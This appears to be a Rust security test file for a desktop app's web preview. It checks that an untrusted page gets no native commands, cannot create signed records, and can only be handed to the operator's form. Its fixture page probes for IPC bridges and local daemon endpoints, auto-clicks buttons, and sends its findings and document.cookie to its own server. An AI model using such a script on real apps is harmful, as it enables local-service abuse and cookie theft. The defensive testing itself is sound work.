//! The criteria that are about a page of the web and what the operator says of it.

use oriel_tests::desktop::{Desktop, Options};
use oriel_tests::probe::Probe;
use oriel_tests::wait;

use super::super::{SHOP, open_shop, press_use, source, with_shop};

/// A page that takes everything that it can get, and tells its own server what that was.
const GREEDY: &str = r#"<!doctype html><title>Greedy</title><h1>A shop</h1><script>
const got = [];
for (const name of ["__TAURI__", "__TAURI_INTERNALS__", "__TAURI_INVOKE__", "ipc", "rpc", "oriel"])
  if (name in window) got.push(name);
if (window.webkit?.messageHandlers) got.push("messageHandlers");
const tries = [
  fetch("oriel://localhost/status").then(() => got.push("oriel:"), () => {}),
  fetch("ipc://localhost/desktop_health", { method: "POST", body: "{}" }).then(() => got.push("ipc:"), () => {}),
  fetch("tauri://localhost/").then(() => got.push("tauri:"), () => {}),
  fetch("http://127.0.0.1:DAEMON/api/events", { method: "POST", mode: "no-cors", body: "{}" }).then(() => got.push("daemon"), () => {}),
  fetch("http://localhost:DAEMON/api/health", { mode: "no-cors" }).then(() => got.push("localhost"), () => {}),
];
Promise.allSettled(tries).then(() => fetch("/report?got=" + got.join("+") + "&cookie=" + document.cookie));
window.open("oriel://localhost/opinions/new");
for (const button of document.querySelectorAll("button")) button.click();
dispatchEvent(new CustomEvent("use", { detail: location.href }));
</script>"#;

/// Opens the greedy page in the preview of a desktop that has a key to sign with.
fn visit() -> (Desktop, Probe) {
    // The page has to know where the daemon listens before there is one.
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let probe = Probe::showing(&GREEDY.replace("DAEMON", &free.to_string()));
    let options = with_shop(Options::new(), &probe).flag("--port", &free.to_string());
    let desktop = Desktop::with_console(&options);
    desktop.home().oriel(&["keys", "create"]).done();
    open_shop(&desktop, "/things/1?q=a%20b");
    (desktop, probe)
}

fn opinions(desktop: &Desktop) -> usize {
    let list = desktop.home().oriel(&["opinions", "list", "--json"]).json();
    list["opinions"].as_array().expect("a list").len()
}

#[test]
fn criterion_04_the_preview_is_granted_no_native_command() {
    let (desktop, probe) = visit();
    let report = probe.until_visit("/report");
    assert!(report.starts_with("GET /report?got=&cookie= "), "the page got at {report}");
    assert!(!report.to_ascii_lowercase().contains("\r\ncookie:"), "{report}");
    for file in ["console", "diagnostics"] {
        let text = source(&format!("desktop/capabilities/{file}.json"));
        let capability: serde_json::Value = serde_json::from_str(&text).unwrap();
        let labels = capability["webviews"].as_array().unwrap();
        assert!(labels.iter().all(|label| label.as_str().unwrap().starts_with(file)), "{text}");
        assert!(capability.get("remote").is_none(), "{text}");
        assert!(capability.get("windows").is_none(), "{text}");
    }
    assert!(desktop.is_alive());
    assert_eq!(desktop.eval("location.origin"), "oriel://localhost");
}

#[test]
fn criterion_06_a_page_of_the_web_is_written_of_and_has_no_say_in_it() {
    let (desktop, probe) = visit();
    _ = probe.until_visit("/report");
    let place = desktop.path();
    assert_eq!(opinions(&desktop), 0, "what the page did made nothing");
    assert_eq!(desktop.files().traces_of("desktop/resource-ref-handoff").len(), 0);
    press_use(&desktop);
    desktop.files().until_trace("desktop/resource-ref-handoff", |trace| trace["host"] == SHOP);
    desktop.until("the form", "location.pathname === '/opinions/new'");
    assert_ne!(desktop.path(), place);
    assert_eq!(opinions(&desktop), 0, "nothing is signed before the operator says so");
    assert!(
        probe.visits().iter().all(|head| !head.starts_with("POST")),
        "the page is told of nothing"
    );
}

#[test]
fn criterion_13_a_page_handed_over_fills_the_consoles_own_form_and_is_signed_there() {
    let (desktop, probe) = visit();
    // A page has its title before what it did is told, and an address is known before either.
    _ = probe.until_visit("/report");
    press_use(&desktop);
    desktop.until("the form", "document.querySelector('form[action=\"/opinions\"] #id')");
    assert_eq!(desktop.eval("document.querySelector('#kind').value"), "url");
    let url = format!("http://{SHOP}/things/1?q=a%20b");
    assert_eq!(desktop.eval("document.querySelector('#id').value"), url.as_str());
    desktop.until_text("Greedy");
    desktop.fill("#text", "Takes what it can get.");
    desktop.click("form[action='/opinions'] > p.actions > button");
    desktop.until(
        "the opinion",
        "/^\\/opinions\\/.+/.test(location.pathname) && location.pathname !== '/opinions/new'",
    );
    desktop.until_text("It is what its author signed.");
    wait::until("it to be kept", || (opinions(&desktop) == 1).then_some(()));
    let list = desktop.home().oriel(&["opinions", "list", "--json"]).json();
    assert_eq!(list["opinions"][0]["resource_id"], url.as_str(), "{list:#}");
}
